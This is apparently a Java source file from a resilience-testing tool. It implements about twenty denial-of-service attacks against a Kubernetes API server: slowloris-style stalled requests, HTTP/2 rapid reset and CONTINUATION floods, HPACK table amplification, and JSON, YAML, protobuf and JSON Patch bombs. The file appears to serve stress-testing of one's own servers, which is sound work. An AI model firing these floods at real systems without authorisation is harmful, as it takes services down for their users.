package dev.keelson.blackbox.attack;

import dev.keelson.blackbox.attack.Target.Frames;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import javax.net.ssl.SSLSocket;

/** The classes of hostile clients. */
public final class Attacks {

  private static final String MAPS = "/api/v1/namespaces/default/configmaps";
  private static final String PODS = "/api/v1/namespaces/default/pods?dryRun=All";
  private static final int MEBIBYTE = 1 << 20;

  /** Types of frames (RFC 9113, section 6). */
  private static final int DATA = 0;

  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;

  /** :method GET, :scheme https, :path /, :authority k */
  private static final byte[] GET = {(byte) 0x82, (byte) 0x87, (byte) 0x84, 0x41, 0x01, 'k'};

  /** The method GET or POST in the static table (RFC 7541, appendix A). */
  private static final int INDEX_GET = 0x82;

  private static final int INDEX_POST = 0x83;

  private Attacks() {}

  /** All of them. */
  public static List<Attack> all() {
    return Stream.of(ofHttp(), IdentityAttacks.all(), TlsAttacks.all())
        .flatMap(List::stream)
        .toList();
  }

  private static List<Attack> ofHttp() {
    return List.of(
        new Attack("slow heads", "200 halves of a head", Attacks::slowHeads),
        new Attack("stalled bodies", "200 bodies of 3 MiB, 64 KiB of each", Attacks::stalledBodies),
        new Attack("stalled chunks", "200 halves of a chunk", Attacks::stalledChunks),
        new Attack(
            "stalled bodies of a user", "20 bodies of 1 MiB but a byte", Attacks::userBodies),
        new Attack("silent connections", "1,000 without a word", Attacks::silence),
        new Attack("idle connections", "200 after one request", Attacks::idle),
        new Attack("slow readers", "20 lists that are not read", Attacks::slowReaders),
        new Attack("watches that are not read", "500 of one user", Attacks::watches),
        new Attack("watches of many users", "500, each of another", Attacks::watchesOfMany),
        new Attack("rapid reset", "10,000 streams and their resets", Attacks::rapidReset),
        new Attack("CONTINUATION flood", "16 MiB of one head", Attacks::continuations),
        new Attack("settings and pings", "20,000 frames each", Attacks::settingsAndPings),
        new Attack("many streams, tiny windows", "1,000 streams, windows of 1", Attacks::streams),
        new Attack("stalled streams", "100 streams with half a body", Attacks::stalledStreams),
        new Attack("header bombs", "20 heads of 1 MiB", Attacks::headers),
        new Attack("header tables", "a header of 4 KB, 60,000 references", Attacks::references),
        new Attack("JSON bombs", "4 pods of 900,000 containers", Attacks::containers),
        new Attack("YAML bombs", "20 nests of aliases", Attacks::aliases),
        new Attack("protobuf bombs", "4 of 2.9 MB of empty fields", Attacks::protobuf),
        new Attack("JSON Patch bombs", "4 of 9,900 inserts at the front", Attacks::patches),
        new Attack("selectors", "100 of 60 KB", Attacks::selectors));
  }

  private static String head(String method, String path, String... lines) {
    return method + " " + path + " HTTP/1.1\r\nHost: k\r\n" + String.join("\r\n", lines) + "\r\n";
  }

  private static String request(String method, String path, String type, String body) {
    return head(
            method,
            path,
            "Content-Type: " + type,
            "Connection: close",
            "Content-Length: " + body.length())
        + "\r\n"
        + body;
  }

  private static void slowHeads(Target target) throws IOException {
    for (int i = 0; i < target.times(200); i++) {
      Target.send(target.stranger(), "GET /healthz HTTP/1.1\r\nHost: a\r\nX: ");
    }
  }

  private static void stalledBodies(Target target) throws IOException {
    String body = " ".repeat(64 * 1024);
    for (int i = 0; i < target.times(200); i++) {
      Target.send(target.stranger(), head("POST", "/x", "Content-Length: 3145728") + "\r\n" + body);
    }
  }

  private static void stalledChunks(Target target) throws IOException {
    for (int i = 0; i < target.times(200); i++) {
      Target.send(
          target.stranger(), head("POST", MAPS, "Transfer-Encoding: chunked") + "\r\nffff\r\n{");
    }
  }

  private static void userBodies(Target target) throws IOException {
    String body = " ".repeat(MEBIBYTE - 1);
    for (int i = 0; i < target.times(20); i++) {
      Target.send(
          target.user(),
          head("POST", MAPS, "Content-Type: application/json", "Content-Length: " + MEBIBYTE)
              + "\r\n"
              + body);
    }
  }

  private static void silence(Target target) throws IOException {
    for (int i = 0; i < target.times(1_000); i++) {
      Socket unused = target.silent();
    }
  }

  private static void idle(Target target) throws IOException {
    for (int i = 0; i < target.times(200); i++) {
      int unused = Target.ask(target.stranger(), head("GET", "/healthz") + "\r\n");
    }
  }

  private static void slowReaders(Target target) throws IOException {
    for (int i = 0; i < target.times(20); i++) {
      SSLSocket user = target.user();
      for (int list = 0; list < 20; list++) {
        Target.send(user, head("GET", "/apis/rbac.authorization.k8s.io/v1/clusterroles") + "\r\n");
      }
    }
  }

  private static void watches(Target target) throws IOException {
    byte[] watch = headers(INDEX_GET, MAPS + "?watch=1");
    for (int connection = 0; connection < target.times(10); connection++) {
      Frames frames = target.userFrames();
      frames.frame(SETTINGS, 0, 0);
      for (int stream = 1; stream < 100; stream += 2) {
        frames.frame(HEADERS, END_STREAM | END_HEADERS, stream, watch);
      }
      frames.flush();
    }
  }

  private static void watchesOfMany(Target target) throws IOException {
    int user = 0;
    for (int connection = 0; connection < target.times(10); connection++) {
      Frames frames = target.userFrames();
      frames.frame(SETTINGS, 0, 0);
      for (int stream = 1; stream < 100; stream += 2) {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.writeBytes(headers(INDEX_GET, MAPS + "?watch=1"));
        // a literal without indexing
        head.write(0);
        writeText(head, "impersonate-user");
        writeText(head, "user-" + user++);
        frames.frame(HEADERS, END_STREAM | END_HEADERS, stream, head.toByteArray());
      }
      frames.flush();
    }
  }

  /** A text of at most 126 characters. */
  private static void writeText(ByteArrayOutputStream head, String text) {
    head.write(text.length());
    head.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
  }

  /**
   * A head: the method, :scheme https, :path as a literal of at most 126 characters, :authority k.
   */
  private static byte[] headers(int method, String path) {
    ByteArrayOutputStream head = new ByteArrayOutputStream();
    head.write(method);
    head.write(0x87);
    head.write(0x04);
    writeText(head, path);
    head.writeBytes(new byte[] {0x41, 0x01, 'k'});
    return head.toByteArray();
  }

  private static void rapidReset(Target target) throws IOException {
    Frames frames = target.frames();
    frames.frame(SETTINGS, 0, 0);
    for (int stream = 1; stream < target.times(20_000); stream += 2) {
      frames.frame(HEADERS, END_STREAM | END_HEADERS, stream, GET);
      frames.frame(RESET, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 8);
    }
    frames.flush();
  }

  private static void continuations(Target target) throws IOException {
    Frames frames = target.frames();
    frames.frame(SETTINGS, 0, 0);
    frames.frame(HEADERS, END_STREAM, 1, GET);
    for (int i = 0; i < target.times(1_024); i++) {
      // literal headers without a name in the table, and padding of empty ones
      frames.frame(CONTINUATION, 0, 1, new byte[16 * 1024]);
    }
    frames.flush();
  }

  private static void settingsAndPings(Target target) throws IOException {
    Frames frames = target.frames();
    for (int i = 0; i < target.times(20_000); i++) {
      frames.frame(SETTINGS, 0, 0);
      frames.frame(PING, 0, 0, new byte[8]);
    }
    frames.flush();
  }

  private static void streams(Target target) throws IOException {
    for (int connection = 0; connection < target.times(10); connection++) {
      Frames frames = target.frames();
      // INITIAL_WINDOW_SIZE 1
      frames.frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 1});
      for (int stream = 1; stream < 200; stream += 2) {
        frames.frame(HEADERS, END_STREAM | END_HEADERS, stream, GET);
      }
      frames.flush();
    }
  }

  private static void stalledStreams(Target target) throws IOException {
    Frames frames = target.userFrames();
    frames.frame(SETTINGS, 0, 0);
    for (int stream = 1; stream < 200; stream += 2) {
      frames.frame(HEADERS, END_HEADERS, stream, headers(INDEX_POST, MAPS));
      frames.frame(DATA, 0, stream, new byte[8 * 1024]);
    }
    frames.flush();
  }

  private static void headers(Target target) throws IOException {
    String header = "X-A: " + "a".repeat(1_000) + "\r\n";
    for (int i = 0; i < target.times(20); i++) {
      Target.send(target.stranger(), "GET / HTTP/1.1\r\n" + header.repeat(1_000));
    }
  }

  private static void references(Target target) throws IOException {
    Frames frames = target.frames();
    frames.frame(SETTINGS, 0, 0);
    byte[] head = new byte[16_000];
    System.arraycopy(GET, 0, head, 0, GET.length);
    int at = GET.length;
    // a literal with indexing: name "a", a value of 4,000 bytes; then references to it
    head[at++] = 0x40;
    head[at++] = 1;
    head[at++] = 'a';
    head[at++] = 0x7f;
    head[at++] = (byte) 0xa1;
    head[at++] = 0x1e;
    for (int i = 0; i < 4_000; i++) {
      head[at++] = 'v';
    }
    while (at < head.length) {
      head[at++] = (byte) 0xbe;
    }
    for (int stream = 1; stream < target.times(10); stream += 2) {
      frames.frame(HEADERS, END_STREAM | END_HEADERS, stream, head);
    }
    frames.flush();
  }

  private static void post(Target target, int times, String text) throws IOException {
    for (int i = 0; i < target.times(times); i++) {
      int unused = Target.ask(target.user(), text);
    }
  }

  private static void containers(Target target) throws IOException {
    String pod =
        "{\"metadata\":{\"name\":\"big\"},\"spec\":{\"containers\":["
            + "{},".repeat(900_000)
            + "{}]}}";
    post(target, 4, request("POST", PODS, "application/json", pod));
  }

  private static void aliases(Target target) throws IOException {
    StringBuilder yaml = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x]\n");
    for (int i = 1; i < 30; i++) {
      String before = "*a" + (i - 1);
      yaml.append("a" + i + ": &a" + i + " [" + (before + ",").repeat(8) + before + "]\n");
    }
    post(target, 20, request("POST", MAPS, "application/yaml", yaml.toString()));
  }

  private static void protobuf(Target target) throws IOException {
    String start = "k8s\0\n\u000f\n\u0002v1\u0012\tConfigMap";
    int length = 2_900_000;
    StringBuilder size = new StringBuilder();
    int rest = length;
    while (rest > 127) {
      size.append((char) ((rest & 127) | 128));
      rest >>= 7;
    }
    String object = start + "\u0012" + size.append((char) rest) + "\u0012\0".repeat(length / 2);
    post(target, 4, request("POST", MAPS, "application/vnd.kubernetes.protobuf", object));
  }

  private static void patches(Target target) throws IOException {
    int unused =
        Target.ask(
            target.user(),
            request(
                "POST",
                MAPS,
                "application/json",
                "{\"metadata\":{\"name\":\"patched\",\"finalizers\":[\"a.b/c\"]}}"));
    String insert = "{\"op\":\"add\",\"path\":\"/metadata/finalizers/0\",\"value\":\"a.b/d\"},";
    post(
        target,
        4,
        request(
            "PATCH",
            MAPS + "/patched?dryRun=All",
            "application/json-patch+json",
            "[" + insert.repeat(9_900) + insert.substring(0, insert.length() - 1) + "]"));
  }

  private static void selectors(Target target) throws IOException {
    String selector = "k%20in%20(" + "a,".repeat(29_000) + "b)";
    post(
        target,
        100,
        head("GET", MAPS + "?labelSelector=" + selector, "Connection: close") + "\r\n");
  }
}
